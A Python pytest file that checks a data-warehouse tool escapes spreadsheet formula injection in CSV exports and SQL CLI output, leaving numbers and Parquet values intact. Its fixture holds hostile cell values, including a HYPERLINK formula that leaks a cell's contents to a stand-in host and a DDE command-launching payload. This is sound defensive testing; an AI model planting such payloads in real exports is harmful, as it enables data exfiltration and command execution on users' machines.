"""Spreadsheet formula injection: a text cell that starts with = + - @ (or a tab / carriage return) is written to
CSV with a leading apostrophe, so a spreadsheet shows it as text instead of running it. Numbers, and Parquet
files, keep their values."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from salvage.cli import app
from warehouse.db import connect
from warehouse.export import Filters, export
from warehouse.ingest import ingest

from .conftest import make_lot, write_run

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = {"title": PAYLOAD, "debtor": "@SUM(1+1)*cmd|' /C calc'!A0", "disposal_unit": "+86 1",
           "address": "-2+3", "case_number": "\t=1+1"}


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "w.duckdb"
    con = connect(path)
    ingest(con, [write_run(tmp_path / "runs", [make_lot("evil", lng=-73.5, lat=40.25, **HOSTILE),
                                               make_lot("plain", title="普通房产")])])
    con.close()
    return path


def test_csv_export_neutralises_formula_cells_and_keeps_numbers(db, tmp_path):
    con = duckdb.connect(str(db), read_only=True)
    path = tmp_path / "lots.csv"
    assert export(con, "lots", path, Filters()) == 2
    rows = {r["source_lot_id"]: r for r in csv.DictReader(io.StringIO(path.read_text("utf-8-sig")))}
    evil = rows["evil"]
    for column, value in HOSTILE.items():
        assert evil[column] == "'" + value, column
    assert evil["lng"] == "-73.5" and evil["lat"] == "40.25"  # numbers stay numbers
    assert rows["plain"]["title"] == "普通房产"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows.values() for k, cell in row.items()
                   if k not in ("lng", "lat"))
    parquet = tmp_path / "lots.parquet"
    export(con, "lots", parquet, Filters())
    assert duckdb.sql(f"SELECT title FROM '{parquet}' WHERE source_lot_id = 'evil'").fetchall() == [(PAYLOAD,)]
    con.close()


def test_sql_csv_output_neutralises_formula_cells(db):
    result = CliRunner().invoke(app, ["sql", "SELECT title, lng FROM lots ORDER BY source_lot_id", "--db", str(db),
                                      "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1] == ["'" + PAYLOAD, "-73.5"] and rows[2][0] == "普通房产"
